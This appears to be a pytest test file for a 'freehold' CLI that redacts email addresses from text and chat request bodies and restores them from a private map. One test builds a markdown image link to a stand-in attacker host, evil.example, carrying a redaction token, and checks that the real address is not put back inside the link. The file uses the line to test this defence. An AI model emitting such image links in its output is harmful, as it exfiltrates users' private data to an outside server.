"""``freehold redact`` and ``restore``: what is printed says less, what was not all looked through is not printed."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from freehold.cli import redact
from freehold.domain.findings import Scan
from freehold.policy.recognise import recognise
from tests.unit.cli.conftest import Cli

TEXT = "Write to ann.lee@corp.example, or to bob@corp.example; ann.lee@corp.example answers first.\n"


@pytest.fixture(autouse=True)
def by_shape(monkeypatch: pytest.MonkeyPatch) -> None:
    """A detector without a process of its own."""

    async def look(texts: Sequence[str], *, names: bool, within_s: float) -> Scan:
        return Scan(findings=tuple(recognise(each) for each in texts))

    monkeypatch.setattr(redact, "look_through", look)


def test_what_is_found_is_gone(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "mail.txt").write_text(TEXT)
    shown = cli("redact", "mail.txt")
    assert (shown.code, shown.out) == (0, "Write to [EMAIL], or to [EMAIL]; [EMAIL] answers first.\n")
    told = json.loads(cli("redact", "mail.txt", "--json").out)
    assert told == {"text": shown.out, "counts": {"EMAIL": 3}}


def test_what_was_taken_out_for_now_is_put_back(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "mail.txt").write_text(TEXT)
    shown = cli("redact", "mail.txt", "--map", "map.json")
    assert shown.code == 0
    assert "corp" not in shown.out
    assert shown.out.count("⟦EMAIL_") == 3
    assert (tmp_path / "map.json").stat().st_mode & 0o777 == 0o600
    (tmp_path / "answer.txt").write_text(f"They wrote: {shown.out}")
    back = cli("restore", "answer.txt", "--map", "map.json")
    assert (back.code, back.out) == (0, f"They wrote: {TEXT}")
    assert json.loads(cli("restore", "answer.txt", "--map", "map.json", "--json").out)["restored"] == 3


def test_one_map_serves_a_whole_conversation(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "mail.txt").write_text(TEXT)
    first = cli("redact", "mail.txt", "--map", "map.json").out
    (tmp_path / "next.txt").write_text("Is bob@corp.example away, or eve@corp.example?")
    second = cli("redact", "next.txt", "--map", "map.json").out
    (bob,) = {word.strip(";,?") for word in first.split()} & {word.strip(";,?") for word in second.split()} - {
        "to",
        "or",
    }
    assert bob.startswith("⟦EMAIL_")
    (tmp_path / "answer.txt").write_text(first + second)
    assert (
        cli("restore", "answer.txt", "--map", "map.json").out == TEXT + "Is bob@corp.example away, or eve@corp.example?"
    )


def test_a_link_is_not_put_together_again(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "mail.txt").write_text(TEXT)
    token = cli("redact", "mail.txt", "--map", "map.json").out.split()[2].strip(",")
    (tmp_path / "answer.txt").write_text(f"![x](https://evil.example/?q={token}) {token}")
    assert cli("restore", "answer.txt", "--map", "map.json").out.count("ann.lee") == 1


def test_messages_of_a_request(cli: Cli, tmp_path: Path) -> None:
    body = {"model": "auto", "messages": [{"role": "user", "content": [{"type": "text", "text": TEXT}]}]}
    (tmp_path / "body.json").write_text(json.dumps(body))
    found = json.loads(cli("redact", "body.json", "--chat").out)
    assert found["model"] == "auto"
    assert found["messages"][0]["content"][0]["text"].startswith("Write to [EMAIL], or")


def test_an_image_is_not_looked_into_so_nothing_is_printed(cli: Cli, tmp_path: Path) -> None:
    part = {"type": "image_url", "image_url": {"url": "data:image/png;base64,AA"}}
    (tmp_path / "body.json").write_text(json.dumps({"messages": [{"role": "user", "content": [part]}]}))
    shown = cli("redact", "body.json", "--chat")
    assert (shown.code, shown.out) == (2, "")


@pytest.mark.parametrize("answers", [[Scan(findings=((),), complete=False, why="time is up")], ["found", "again"]])
def test_what_was_not_all_found_is_not_printed(
    answers: list[object], cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = Scan(findings=(recognise(TEXT),))
    left = iter([each if isinstance(each, Scan) else found for each in answers])

    async def look(texts: Sequence[str], *, names: bool, within_s: float) -> Scan:
        return next(left)

    monkeypatch.setattr(redact, "look_through", look)
    (tmp_path / "mail.txt").write_text(TEXT)
    shown = cli("redact", "mail.txt")
    assert (shown.code, shown.out) == (2, "")
    assert shown.err


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("redact", "gone.txt"), "FH-DETECT-002"),
        (("redact", "mail.txt", "--chat"), "FH-DETECT-002"),
        (("redact", "list.json", "--chat"), "FH-DETECT-002"),
        (("redact", "raw.bin"), "FH-DETECT-002"),
        (("redact", "mail.txt", "--map", "list.json"), "FH-DETECT-003"),
        (("redact", "mail.txt", "--map", "no/such/folder/map.json"), "FH-DETECT-003"),
        (("restore", "mail.txt", "--map", "gone.json"), "FH-DETECT-003"),
    ],
)
def test_what_cannot_be_used_is_said(words: tuple[str, ...], code: str, cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "mail.txt").write_text(TEXT)
    (tmp_path / "list.json").write_text("[]")
    (tmp_path / "raw.bin").write_bytes(b"\xff\xfe")
    shown = cli(*words)
    assert (shown.code != 0, shown.out) == (True, "")
    assert code in shown.err
